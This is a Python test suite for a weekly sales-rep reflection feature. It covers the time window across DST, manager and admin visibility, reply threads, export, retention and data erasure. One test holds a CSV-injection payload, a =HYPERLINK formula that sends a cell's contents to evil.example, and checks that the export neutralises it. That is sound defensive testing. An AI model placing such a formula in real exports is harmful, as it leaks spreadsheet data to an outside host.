"""The weekly reflection: its window in the rep's own time (across DST), privacy, the coaching thread,
export, retention and data rights."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
import time_machine

from backend import signals
from backend.reflections.models import Reflection, ReflectionReply
from tests.conftest import error_code

# Summer time ends in Amsterdam on Sunday 25 October 2026: the window opens on CEST and closes on CET.
FRIDAY_OPEN = datetime(2026, 10, 23, 6, 0, tzinfo=UTC)  # Friday 08:00 CEST
MONDAY_CLOSE = datetime(2026, 10, 26, 11, 0, tzinfo=UTC)  # Monday 12:00 CET
QUESTION_NL = "Wat deed je deze week waardoor je dichter bij succes kwam, en wat kun je herhalen?"


@pytest.fixture
def team(make_team, make_user, make_org):
    sales = make_team("Sales Noord")
    other_team = make_team("Sales Zuid")
    return {
        "rep": make_user(team=sales, name="Ruben"),
        "manager": make_user(role="manager", team=sales, manages=True, name="Martijn"),
        "other_manager": make_user(role="manager", team=other_team, manages=True, name="Sanne"),
        "colleague": make_user(team=sales, name="Lotte"),
        "admin": make_user(role="admin", name="Anouk"),
        "team": sales,
    }


def answer(api, text="Elke klant binnen een dag teruggebeld; dat ga ik volhouden."):
    return api.put("/api/v1/reflections/current", json={"answer": text})


@pytest.mark.parametrize(
    ("moment", "is_open"),
    [
        (FRIDAY_OPEN - timedelta(minutes=1), False),
        (FRIDAY_OPEN, True),
        (MONDAY_CLOSE - timedelta(minutes=1), True),  # 11:59 CET: an offset fixed on Friday would have closed at 11:00
        (MONDAY_CLOSE, False),
    ],
)
def test_the_window_runs_from_friday_morning_to_monday_noon_local_time_across_dst(team, login_as, moment, is_open):
    with time_machine.travel(moment, tick=False):
        current = login_as(team["rep"]).get("/api/v1/reflections/current").get_json()
    assert current["open"] is is_open
    assert current["asked"] is is_open
    if is_open:
        assert current["week"] == "2026-W43" and current["question"] == QUESTION_NL
        assert current["closes_at"] == MONDAY_CLOSE.isoformat()


def test_the_window_follows_the_reps_own_time_zone(team, login_as, db):
    team["rep"].time_zone = "America/New_York"
    db.session.commit()
    with time_machine.travel(FRIDAY_OPEN, tick=False):  # 02:00 in New York
        assert login_as(team["rep"]).get("/api/v1/reflections/current").get_json()["open"] is False
    with time_machine.travel(datetime(2026, 10, 23, 12, 0, tzinfo=UTC), tick=False):  # 08:00 EDT
        assert login_as(team["rep"]).get("/api/v1/reflections/current").get_json()["open"] is True


def test_answering_outside_the_window_is_refused(team, login_as, db):
    with time_machine.travel(datetime(2026, 10, 21, 10, 0, tzinfo=UTC), tick=False):  # Wednesday
        response = answer(login_as(team["rep"]))
    assert response.status_code == 422 and error_code(response) == "reflection_closed"
    assert db.session.query(Reflection).count() == 0


def test_the_answer_is_at_most_2000_characters_and_rewriting_keeps_one_per_week(team, login_as, db):
    with time_machine.travel(FRIDAY_OPEN, tick=False):
        api = login_as(team["rep"])
        assert answer(api, "x" * 2001).status_code == 422
        assert answer(api, "   ").status_code == 422
        assert answer(api).status_code == 201
    with time_machine.travel(MONDAY_CLOSE - timedelta(hours=1), tick=False):
        rewritten = answer(api, "Herschreven")
        assert rewritten.status_code == 200 and rewritten.get_json()["answer"] == "Herschreven"
    assert db.session.query(Reflection).count() == 1


def test_only_the_rep_and_their_managers_read_it_and_admins_see_only_that_it_exists(team, login_as):
    with time_machine.travel(FRIDAY_OPEN, tick=False):
        reflection_id = answer(login_as(team["rep"])).get_json()["id"]
        url = f"/api/v1/reflections/{reflection_id}"
        assert login_as(team["manager"]).get(url).get_json()["answer"].startswith("Elke klant")
        assert login_as(team["colleague"]).get(url).status_code == 404
        assert login_as(team["other_manager"]).get(url).status_code == 404
        seen_by_admin = login_as(team["admin"]).get(url).get_json()
        assert seen_by_admin["answered"] is True and seen_by_admin["answer"] is None
        assert seen_by_admin["replies"] == []
        listed = login_as(team["admin"]).get(f"/api/v1/reflections?team_id={team['team'].id}").get_json()
        assert [r["answer"] for r in listed] == [None]
        team_view = login_as(team["manager"]).get(f"/api/v1/reflections?team_id={team['team'].id}").get_json()
        assert team_view[0]["answer"].startswith("Elke klant")
        assert login_as(team["other_manager"]).get(f"/api/v1/reflections?user_id={team['rep'].id}").status_code == 403
        assert login_as(team["colleague"]).get(f"/api/v1/reflections?team_id={team['team'].id}").status_code == 403


def test_the_manager_replies_and_the_rep_answers_in_a_thread_per_week(team, login_as):
    with time_machine.travel(FRIDAY_OPEN, tick=False):
        rep = login_as(team["rep"])
        reflection_id = answer(rep).get_json()["id"]
        url = f"/api/v1/reflections/{reflection_id}/replies"
        manager = login_as(team["manager"])
        assert manager.post(url, json={"text": "Mooi! Wat hielp je daarbij?"}).status_code == 201
        assert rep.get("/api/v1/notifications").get_json()["items"][0]["kind"] == "reflection_reply"
        thread = rep.post(url, json={"text": "De agenda-blokken op vrijdag."}).get_json()
        assert [m["author"]["name"] for m in thread["replies"]] == ["Martijn", "Ruben"]
        assert login_as(team["admin"]).post(url, json={"text": "Hallo"}).status_code == 403
        assert login_as(team["colleague"]).post(url, json={"text": "Hallo"}).status_code == 404


def test_the_rep_exports_their_reflections_as_json_and_csv(team, login_as):
    with time_machine.travel(FRIDAY_OPEN, tick=False):
        rep = login_as(team["rep"])
        reflection_id = answer(rep, 'Met "aanhalingstekens", en komma').get_json()["id"]
        login_as(team["manager"]).post(f"/api/v1/reflections/{reflection_id}/replies", json={"text": "Top"})
        as_json = rep.get("/api/v1/reflections/export?format=json")
        as_csv = rep.get("/api/v1/reflections/export?format=csv")
    assert as_json.headers["Content-Disposition"].startswith("attachment")
    assert as_json.get_json()["reflections"][0]["replies"][0]["text"] == "Top"
    rows = list(csv.reader(io.StringIO(as_csv.get_data(as_text=True))))
    assert rows[0] == ["week", "week_start", "answer", "replies"]
    assert rows[1][:3] == ["2026-W43", "2026-10-19", 'Met "aanhalingstekens", en komma']



def test_the_csv_export_keeps_formulas_as_text(team, login_as):
    """OWASP CSV injection: a cell starting like a formula (ASCII or full-width) opens as text in a spreadsheet."""
    with time_machine.travel(FRIDAY_OPEN, tick=False):
        rep = login_as(team["rep"])
        reflection_id = answer(rep, '=HYPERLINK("https://evil.example/?"&A1,"klik")').get_json()["id"]
        login_as(team["manager"]).post(f"/api/v1/reflections/{reflection_id}/replies", json={"text": "Top"})
        as_csv = rep.get("/api/v1/reflections/export?format=csv")
    rows = list(csv.reader(io.StringIO(as_csv.get_data(as_text=True))))
    assert rows[1][2] == '\'=HYPERLINK("https://evil.example/?"&A1,"klik")'
    assert rows[1][3] == "Martijn: Top"


def test_retention_removes_old_texts_but_keeps_that_a_reflection_existed(team, login_as, db, org):
    with time_machine.travel(FRIDAY_OPEN, tick=False):
        reflection_id = answer(login_as(team["rep"])).get_json()["id"]
        login_as(team["manager"]).post(f"/api/v1/reflections/{reflection_id}/replies", json={"text": "Top"})
    signals.retention_due.send(org, cutoff=FRIDAY_OPEN + timedelta(days=1))
    db.session.commit()
    kept = db.session.get(Reflection, reflection_id)
    assert kept is not None and kept.answer is None and kept.text_removed_at is not None
    assert db.session.query(ReflectionReply).count() == 0


def test_personal_data_export_and_erase(team, login_as, db):
    with time_machine.travel(FRIDAY_OPEN, tick=False):
        answer(login_as(team["rep"]))
    exported = {}
    for _receiver, result in signals.personal_data_export.send(team["rep"]):
        exported.update(result or {})
    assert exported["reflections"][0]["answer"].startswith("Elke klant")
    signals.personal_data_erase.send(team["rep"])
    db.session.commit()
    assert db.session.query(Reflection).count() == 0
